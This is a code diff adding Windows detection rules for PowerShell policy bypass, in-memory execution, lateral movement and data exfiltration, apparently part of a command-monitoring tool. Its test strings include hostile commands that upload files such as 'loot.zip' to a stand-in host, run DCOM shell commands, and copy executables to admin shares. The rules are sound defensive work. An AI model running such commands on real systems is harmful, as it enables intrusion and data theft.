@@ -8,7 +8,22 @@
  * and each idiom is also tried on the command as written.
  */
 import type { Rule } from '../rule.js';
+import type { CommandLine, Span } from '../shell/model.js';
 import { idiomRule } from './idioms.js';
+
+/** A file read into a PowerShell variable and later posted as a web request's body
+ * (`$c = Get-Content F` … `Invoke-WebRequest … -Body $c`), across the statements of the line. */
+const FILE_POSTED = /\$(\w+)\s*=\s*(?:Get-Content|gc|\[(?:System\.)?IO\.File\]::ReadAll\w+)\b[\s\S]*\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]*-Body\s+\$\1\b/i;
+
+/** The whole line when {@link FILE_POSTED} matches its text, else null. */
+function filePosted(line: CommandLine): Span | null {
+  return FILE_POSTED.test(line.text) ? { source: line.text, start: 0, end: line.text.length } : null;
+}
+
+/** A rule with a line matcher added to its own matchers. */
+function withLine(line: (l: CommandLine) => Span | null, rule: Rule): Rule {
+  return { ...rule, match: { ...rule.match, line } };
+}
 
 const X = String.raw`(?:\.exe)?`;
 /** A remote location: a URL or a UNC path (`\\host\share`, backslashes possibly removed by the shell reading). */
@@ -232,4 +247,87 @@ export const WINDOWS_RULES: Rule[] = [
       { re: /\b(?:fodhelper|eventvwr|sdclt|computerdefaults|slui|wsreset|changepk)(?:\.exe)?\b/i, names: ['fodhelper', 'eventvwr', 'sdclt', 'computerdefaults', 'slui', 'wsreset', 'changepk', 'start-process', 'start', 'cmd'] },
     ],
   }),
+  idiomRule({
+    id: 'powershell-policy-bypass',
+    name: 'PowerShell started to evade its own controls',
+    category: 'execution',
+    action: 'record',
+    attack: 'T1059.001',
+    description: 'PowerShell run with the execution policy bypassed (-ExecutionPolicy/-ep Bypass or Unrestricted, Set-ExecutionPolicy Bypass), with its command hidden in base64 (-EncodedCommand/-enc/-ec), or in a hidden window (-WindowStyle Hidden).',
+    help: 'These switches exist to run scripts the host policy would stop, and to keep the command line and window from view. Decode or read what is run.',
+    examples: {
+      match: ['powershell.exe -ep bypass -File C:\\Users\\Public\\a.ps1', 'powershell -NoP -enc SQBFAFgAIAAoAGcAYwAgAHgAKQA=', 'Start-Process powershell.exe -WindowStyle Hidden -ArgumentList x.ps1'],
+      not_match: ['powershell -NoProfile -Command Get-ChildItem', 'Get-ExecutionPolicy -List', 'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser'],
+    },
+    idioms: [
+      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:ep|ex|exe|exec|executionpolicy)\s+["']?(?:Bypass|Unrestricted)\b/i },
+      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:e|ec|en|enc|enco|encodedcommand)\s+["']?[A-Za-z0-9+/]{8,}={0,2}/i },
+      // the encoded command built in a variable first (`-EncodedCommand $enc`)
+      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:e|ec|en|enc|enco|encodedcommand)\s+["']?\$\w+/i },
+      { re: /\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*\s[-/](?:w|win|window|windowstyle)\s+["']?hidden\b/i },
+      { re: /\bSet-ExecutionPolicy\b[^|;&\n]*\b(?:Bypass|Unrestricted)\b/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-in-memory-exec',
+    name: 'Code loaded and run in memory',
+    category: 'execution',
+    action: 'record',
+    attack: 'T1620',
+    description: 'A .NET assembly loaded from bytes or a path at run time ([Reflection.Assembly]::Load/LoadFile/LoadFrom), Win32 memory and thread functions imported into PowerShell (Add-Type with DllImport of VirtualAlloc, WriteProcessMemory, CreateRemoteThread, QueueUserAPC), or a COM object made to run a program (MMC20.Application ExecuteShellCommand, ShellWindows/ShellBrowserWindow ShellExecute, Excel RegisterXLL/DDEInitiate).',
+    help: 'Runs code that never touches the disk as a program, past allow-lists and file scanning. Find where the bytes come from.',
+    examples: {
+      match: ['$a = [System.Reflection.Assembly]::Load($bytes)', "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','x.example')).Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c calc','7')", 'Add-Type -MemberDefinition \'[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);\' -Name K -Namespace W'],
+      not_match: ['Add-Type -AssemblyName System.Windows.Forms', '[System.Reflection.Assembly]::GetExecutingAssembly().Location', "Add-Type -TypeDefinition 'public class A { public static int B() { return 1; } }'"],
+    },
+    idioms: [
+      { re: /\[(?:System\.)?Reflection\.Assembly\]::(?:Load|LoadFile|LoadFrom|UnsafeLoadFrom|LoadWithPartialName)\s*\(\s*[^)\s]/i },
+      { re: /\bDllImport\b[\s\S]*\b(?:VirtualAlloc(?:Ex)?|VirtualProtect(?:Ex)?|WriteProcessMemory|CreateRemoteThread(?:Ex)?|NtCreateThreadEx|QueueUserAPC|RtlCreateUserThread|SetThreadContext|NtUnmapViewOfSection|CreateThread)\b/i },
+      { re: /GetTypeFrom(?:ProgID|CLSID)\s*\([\s\S]*\.(?:ExecuteShellCommand|ShellExecute|RegisterXLL|DDEInitiate|ExecuteExcel4Macro)\s*\(/i },
+      { re: /\.(?:ExecuteShellCommand|RegisterXLL|DDEInitiate)\s*\(/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-lateral-movement',
+    name: 'Command or session on another Windows host',
+    category: 'execution',
+    action: 'record',
+    attack: 'T1021',
+    description: "Reaching into another Windows host: its administrative shares (\\\\HOST\\C$, ADMIN$), PowerShell remoting (Enable-PSRemoting, Invoke-Command -ComputerName, Enter-PSSession, New-PSSession), winrs -r:, PsExec \\\\HOST, WMI or DCOM with -ComputerName, stored RDP credentials (cmdkey /generic:TERMSRV).",
+    help: 'Spreads from this host to others with the credentials at hand. Check which host and why the task needs it.',
+    examples: {
+      match: ['copy .\\a.exe \\\\x.example\\C$\\Windows\\Temp\\a.exe', 'Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }', 'winrs -r:srv01 cmd /c whoami'],
+      not_match: ['Invoke-Command -ScriptBlock { Get-Date }', 'dir \\\\srv01\\c$', 'Get-PSSession'],
+    },
+    idioms: [
+      // something copied to, moved to or started from an administrative share (listing one is discovery)
+      { re: /\b(?:copy|xcopy|robocopy|move|Copy-Item|Move-Item|cp|mv|net\s+use|New-PSDrive|New-SmbMapping|sc|schtasks|start|Start-Process|type|Set-Content|Out-File)\b[^|;&\n]*\\\\[\w.-]+\\(?:[A-Za-z]\$|ADMIN\$)/i },
+      { re: /\bEnable-PSRemoting\b|\b(?:Enter-PSSession|New-PSSession)\b[^|;&\n]*-(?:ComputerName|HostName|Cn)\b|\bInvoke-Command\b[^|;&\n]*-(?:ComputerName|Session|HostName|Cn)\b/i },
+      { re: /\bwinrs(?:\.exe)?\b[^|;&\n]*[-/]r(?:emote)?:\S/i },
+      { re: /\bpsexec(?:64)?(?:\.exe)?\b[^|;&\n]*\s\\\\[\w.-]+/i },
+      { re: /\b(?:Invoke-WmiMethod|Invoke-CimMethod|Get-WmiObject|New-CimSession)\b[^|;&\n]*-ComputerName\b[^|;&\n]*(?:Win32_Process|Create)\b/i },
+      { re: /\bcmdkey(?:\.exe)?\b[^|;&\n]*\/(?:generic|add):["']?TERMSRV\//i },
+      { re: /\bNew-(?:SmbMapping|PSDrive)\b[^|;&\n]*\\\\[\w.-]+\\/i },
+    ],
+  }),
+  withLine(filePosted, idiomRule({
+    id: 'powershell-exfil-channel',
+    name: 'Data sent out by PowerShell',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048',
+    description: 'PowerShell sending data out: WebClient UploadFile/UploadString/UploadData, Invoke-WebRequest/Invoke-RestMethod -InFile, a file read into a variable and posted as the -Body, file bytes sent in ICMP echo requests (Net.NetworkInformation.Ping Send), DNS names built from data (Resolve-DnsName with a variable or substitution label), or a TCP client writing to a stream.',
+    help: 'Moves files or collected data off the host. Check what is read and where it goes.',
+    examples: {
+      match: ["(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\Users\\Public\\loot.zip')", "$c = Get-Content C:\\Users\\Public\\notes.txt; Invoke-WebRequest -Uri https://x.example/u -Method POST -Body $c", "Resolve-DnsName -Type TXT \"$($chunk).x.example\""],
+      not_match: ["Invoke-WebRequest -Uri https://api.example.com/v1 -Method POST -Body '{\"a\":1}'", 'Resolve-DnsName example.com', '(New-Object Net.WebClient).DownloadString("https://api.example.com/v1")'],
+    },
+    idioms: [
+      { re: /\.Upload(?:File|String|Data|Values)(?:Async|TaskAsync)?\s*\(/i },
+      { re: /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|;&\n]*\s-InFile\s+\S/i },
+      { re: /NetworkInformation\.Ping\b[\s\S]*\.Send\s*\([^)]*\$/i },
+      { re: /\bResolve-DnsName\b[^|;&\n]*["']?\$(?:\(|\w+)[^\s"']*\.[\w-]+\.[\w-]+/i },
+      { re: /Net\.Sockets\.TcpClient\b[\s\S]*\.GetStream\(\)[\s\S]*\.Write\s*\(/i },
+    ],
+  })),
 ];
